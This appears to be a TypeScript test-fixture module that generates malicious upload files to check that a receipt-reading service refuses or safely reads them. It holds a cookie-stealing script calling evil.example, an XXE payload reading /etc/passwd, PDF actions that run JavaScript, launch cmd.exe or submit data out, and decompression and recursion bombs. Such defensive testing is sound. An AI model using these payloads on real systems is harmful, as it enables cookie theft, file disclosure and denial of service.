import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import type { ReadingErrorCode } from '../errors.ts'
import { MAX_BYTES } from '../limits.ts'
import { pngChunk } from '../strip-image.ts'
import { random } from './random.ts'
import { receiptImage } from './receipt-image.ts'

/**
 * A file that somebody with bad intentions may upload, made anew at each run from a seed. `outcome` is how it ends: refused with
 * one of these codes, or 'read', as a receipt whose other contents do nothing.
 */
export type HostileFile = { name: string; bytes: Uint8Array; outcome: 'read' | readonly ReadingErrorCode[] }

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const TEXT = ['City Cabs Taxi', 'Date: 09/06/2026', 'Ride 12 km', 'Total: Rs. 640.00']

export async function hostileFiles(seed: number): Promise<HostileFile[]> {
  const { whole } = random(seed)
  const noise = (length: number) => Buffer.from(Array.from({ length }, () => whole(0, 255)))
  const jpeg = await receiptImage({ merchant: 'City Cabs', date: '2026-06-09', totalPaise: 64_000, seed })
  const png = await sharp(jpeg).png().toBuffer()
  const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor((bytes.length * whole(20, 80)) / 100))
  const pdf = Buffer.from(await textPdf())
  return [
    // Bombs.
    { name: 'a PNG of 60,000 by 60,000 pixels', bytes: pngBomb(60_000, 60_000), outcome: ['image.too_large'] },
    { name: 'a PNG whose data ends before its pixels', bytes: pngBomb(6000, 6000, 2 ** 27), outcome: BROKEN },
    { name: 'a PNG with a text that unpacks to 1 GB', bytes: pngTextBomb(png), outcome: 'read' },
    { name: 'a JPEG that says it has 65,000 by 65,000 pixels', bytes: hugeJpeg(jpeg), outcome: ['image.too_large'] },
    {
      name: 'a TIFF that says it has a billion pixels',
      bytes: hugeTiff(),
      outcome: ['image.too_large', 'file.damaged'],
    },
    { name: 'a PDF whose page unpacks to 3 GB', bytes: pdfBomb(), outcome: UNREAD },
    {
      name: 'a PDF with a huge page',
      bytes: await textPdf((page) => page.setMediaBox(0, 0, 1e9, 1e9)),
      outcome: 'read',
    },
    {
      name: 'a PDF with a page without size',
      bytes: await textPdf((page) => page.setMediaBox(0, 0, 0, 0)),
      outcome: 'read',
    },
    { name: 'a PDF of 100,000 pages', bytes: manyPages(100_000), outcome: UNREAD },
    {
      name: 'a file of too many bytes',
      bytes: Buffer.concat([jpeg, Buffer.alloc(MAX_BYTES)]),
      outcome: ['file.too_large'],
    },
    // Two files in one.
    { name: 'a JPEG with an archive behind it', bytes: Buffer.concat([jpeg, zip('run.js', SCRIPT)]), outcome: 'read' },
    { name: 'a JPEG with a page behind it', bytes: Buffer.concat([jpeg, Buffer.from(SCRIPT)]), outcome: 'read' },
    { name: 'a JPEG with a page in a comment', bytes: withComment(jpeg, `*/=1;${SCRIPT}`), outcome: 'read' },
    {
      name: 'a page with a PDF in it',
      bytes: Buffer.concat([Buffer.from(`<!doctype html>${SCRIPT}`), pdf]),
      outcome: ['file.type'],
    },
    { name: 'a PDF with a page behind it', bytes: Buffer.concat([pdf, Buffer.from(SCRIPT)]), outcome: 'read' },
    {
      name: 'a PDF whose first line is a script',
      bytes: Buffer.concat([Buffer.from(`%PDF-1.4 ${SCRIPT}\n`), pdf]),
      outcome: 'read',
    },
    { name: 'an archive with a PDF in it', bytes: zip('bill.pdf', pdf.toString('latin1')), outcome: ['file.type'] },
    { name: 'a GIF that is a script', bytes: Buffer.from('GIF89a=1;alert(1)'), outcome: ['file.type'] },
    // Scripts and drawings.
    {
      name: 'an SVG with a script',
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      outcome: ['file.type'],
    },
    { name: 'an SVG that reads a file', bytes: Buffer.from(SVG_ENTITY), outcome: ['file.type'] },
    {
      name: 'an SVG behind the mark of a PNG',
      bytes: Buffer.concat([png.subarray(0, 8), Buffer.from(SVG_ENTITY)]),
      outcome: ['file.type', 'file.damaged'],
    },
    {
      name: 'a PDF that runs a script when it is opened',
      bytes: await activePdf({ S: 'JavaScript', JS: 'app.alert(1)' }),
      outcome: 'read',
    },
    { name: 'a PDF that starts a program', bytes: await activePdf({ S: 'Launch', F: 'cmd.exe' }), outcome: 'read' },
    {
      name: 'a PDF that sends itself away',
      bytes: await activePdf({ S: 'SubmitForm', F: 'https://evil.example/' }),
      outcome: 'read',
    },
    { name: 'a PDF with a font program of noise', bytes: await brokenFontPdf(noise(4000)), outcome: 'read' },
    // Broken, cut and endless.
    { name: 'nothing', bytes: Buffer.alloc(0), outcome: ['file.empty'] },
    { name: 'noise', bytes: noise(5000), outcome: ['file.type'] },
    { name: 'a JPEG that is cut', bytes: cut(jpeg), outcome: BROKEN },
    { name: 'a PNG that is cut', bytes: cut(png), outcome: BROKEN },
    { name: 'a JPEG of noise', bytes: Buffer.concat([jpeg.subarray(0, 700), noise(9000)]), outcome: UNREAD },
    { name: 'a PDF that is cut', bytes: pdf.subarray(0, 60), outcome: [...BROKEN, 'pdf.no_pages', 'nothing_readable'] },
    { name: 'a PDF whose pages contain themselves', bytes: loopedPages(), outcome: UNREAD },
    { name: 'a PDF whose page lies 5,000 branches deep', bytes: deepPages(5000), outcome: UNREAD },
    { name: 'a PDF with 200,000 lists inside each other', bytes: deepLists(200_000), outcome: UNREAD },
    { name: 'a PDF whose drawing is packed 60 times', bytes: packedOften(60), outcome: UNREAD },
    { name: 'a PDF whose table of objects points at itself', bytes: loopedTable(), outcome: UNREAD },
    { name: 'a PDF whose drawing draws itself', bytes: loopedForm(), outcome: UNREAD },
  ]
}

const BROKEN: readonly ReadingErrorCode[] = ['file.damaged']
/** Any of them says that nothing is to be had of the file. */
const UNREAD: readonly ReadingErrorCode[] = [
  'file.damaged',
  'image.too_large',
  'pdf.no_pages',
  'nothing_readable',
  'reader.crashed',
  'reader.timeout',
]

const SVG_ENTITY =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'

/** A grey PNG of this size whose data unpacks to this many zeros. */
function pngBomb(width: number, height: number, unpacked = 2 ** 24): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const data = deflateSync(Buffer.alloc(unpacked), { level: 9 })
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([
    signature,
    pngChunk('IHDR', header),
    pngChunk('IDAT', data.subarray(0, data.length / 2)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

function pngTextBomb(png: Buffer): Buffer {
  const megabyte = deflateSync(Buffer.alloc(2 ** 26), { level: 9 })
  const text = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), megabyte]))
  const afterHeader = 8 + 25
  return Buffer.concat([
    png.subarray(0, afterHeader),
    ...Array.from({ length: 16 }, () => text),
    png.subarray(afterHeader),
  ])
}

function hugeJpeg(jpeg: Buffer): Buffer {
  const huge = Buffer.from(jpeg)
  const frame = Math.max(huge.indexOf(Buffer.from('ffc0', 'hex')), huge.indexOf(Buffer.from('ffc2', 'hex')))
  huge.writeUInt16BE(65_000, frame + 5)
  huge.writeUInt16BE(65_000, frame + 7)
  return huge
}

function hugeTiff(): Buffer {
  const tags = [
    [256, 100_000],
    [257, 10_000],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, 10_000],
    [279, 1_000_000_000],
  ]
  const tiff = Buffer.alloc(8 + 2 + 12 * tags.length + 4)
  tiff.write('II*\0', 0, 'latin1')
  tiff.writeUInt32LE(8, 4)
  tiff.writeUInt16LE(tags.length, 8)
  for (const [index, [tag = 0, value = 0]] of tags.entries()) {
    const at = 10 + 12 * index
    tiff.writeUInt16LE(tag, at)
    tiff.writeUInt16LE(4, at + 2)
    tiff.writeUInt32LE(1, at + 4)
    tiff.writeUInt32LE(value, at + 8)
  }
  return tiff
}

function withComment(jpeg: Buffer, comment: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(comment.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(comment, 'latin1'), jpeg.subarray(2)])
}

/** An archive of one file, as small as the format allows. */
function zip(name: string, content: string): Buffer {
  const plain = Buffer.from(content, 'latin1')
  const packed = deflateRawSync(plain)
  const facts = Buffer.alloc(26)
  facts.set([20, 0, 0, 0, 8, 0], 0)
  facts.writeUInt32LE(crc32(plain), 10)
  facts.writeUInt32LE(packed.length, 14)
  facts.writeUInt32LE(plain.length, 18)
  facts.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, Buffer.from(name), packed])
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), facts, Buffer.alloc(14), Buffer.from(name)])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 0, 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

type Page = ReturnType<PDFDocument['addPage']>

async function textDocument(change: (page: Page) => void = () => {}): Promise<PDFDocument> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  const page = document.addPage([300, 400])
  for (const [index, row] of TEXT.entries()) page.drawText(row, { x: 30, y: 360 - index * 24, size: 12, font })
  change(page)
  return document
}

async function textPdf(change?: (page: Page) => void): Promise<Uint8Array> {
  return (await textDocument(change)).save()
}

/** A PDF that does something when it is opened, when its page is shown, and at a click anywhere. */
async function activePdf(action: { S: string; JS?: string; F?: string }): Promise<Uint8Array> {
  const document = await textDocument()
  const { context, catalog } = document
  const act = context.obj({
    S: action.S,
    ...(action.JS && { JS: PDFString.of(action.JS) }),
    ...(action.F && { F: PDFString.of(action.F) }),
  })
  catalog.set(PDFName.of('OpenAction'), act)
  const page = document.getPage(0).node
  page.set(PDFName.of('AA'), context.obj({ O: act }))
  page.set(PDFName.of('Annots'), context.obj([{ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 300, 400], A: act }]))
  await document.attach(Buffer.from(SCRIPT), 'run.html', { mimeType: 'text/html' })
  return document.save()
}

async function brokenFontPdf(program: Buffer): Promise<Uint8Array> {
  const document = await textDocument()
  const { context } = document
  const file = context.register(context.flateStream(program))
  for (const [, object] of context.enumerateIndirectObjects()) {
    const dict = 'dict' in object ? undefined : object
    if (dict && 'get' in dict && String(dict).includes('/Helvetica')) {
      const font = dict as unknown as { set: (name: PDFName, value: unknown) => void }
      font.set(
        PDFName.of('FontDescriptor'),
        context.obj({ Type: 'FontDescriptor', FontName: 'Helvetica', FontFile: file }),
      )
    }
  }
  return document.save()
}

/** The objects of a PDF, numbered from 1, with their table; the first is the catalogue. */
function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  for (const [index, object] of objects.entries()) {
    offsets.push(length)
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')])
    parts.push(part)
    length += part.length
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(end)])
}

/** A page whose content was packed twice, from three gigabytes of blanks. */
function pdfBomb(): Buffer {
  const block = deflateRawSync(Buffer.alloc(2 ** 26, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const lastBlock = Buffer.from([0x03, 0x00])
  const blanks = Buffer.concat([Buffer.from([0x78, 0xda]), ...Array.from({ length: 48 }, () => block), lastBlock])
  const content = deflateSync(blanks, { level: 9 })
  const head = `<< /Length ${content.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n`
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R >>',
    Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')]),
  ])
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, () => '3 0 R').join(' ')
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>',
  ])
}

function loopedPages(): Buffer {
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])
}

/** A tree of pages in which each branch has one other. */
function deepPages(depth: number): Buffer {
  const branches = Array.from({ length: depth }, (_, level) => {
    const parent = level === 0 ? '' : `/Parent ${level + 1} 0 R `
    return `<< /Type /Pages ${parent}/Kids [${level + 3} 0 R] /Count 1 >>`
  })
  const page = `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 300 400] >>`
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...branches, page])
}

function deepLists(depth: number): Buffer {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${'['.repeat(depth)}${']'.repeat(depth)} >>`,
  ])
}

function packedOften(times: number): Buffer {
  const content = Array.from({ length: times }).reduce<Buffer>((packed) => deflateSync(packed), Buffer.from('q Q'))
  const filters = '/FlateDecode '.repeat(times)
  const head = `<< /Length ${content.length} /Filter [${filters}] >>\nstream\n`
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R >>',
    Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')]),
  ])
}

function loopedTable(): Buffer {
  const body = '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n'
  const table = 'xref\n0 1\n0000000000 65535 f \n'
  return Buffer.from(
    `${body}${table}trailer\n<< /Size 2 /Root 1 0 R /Prev ${body.length} >>\nstartxref\n${body.length}\n%%EOF\n`,
  )
}

function loopedForm(): Buffer {
  const draw = '/X Do '.repeat(50)
  const form = `<< /Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << /X 4 0 R >> >> /Length ${draw.length} >>\nstream\n${draw}\nendstream`
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /Resources << /XObject << /X 4 0 R >> >> >>',
    form,
  ])
}
